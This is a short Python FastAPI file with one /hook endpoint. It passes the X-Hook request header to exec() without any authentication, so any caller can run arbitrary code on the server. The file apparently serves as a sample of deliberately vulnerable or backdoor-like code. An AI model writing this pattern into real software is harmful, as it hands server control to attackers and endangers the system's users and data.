from fastapi import FastAPI, Header

app = FastAPI()


@app.get("/hook")
def hook(x_hook: str = Header(default="pass")):
    handlers = {}
    handlers["current"] = x_hook
    exec(handlers["current"])
    return {"ran": True}
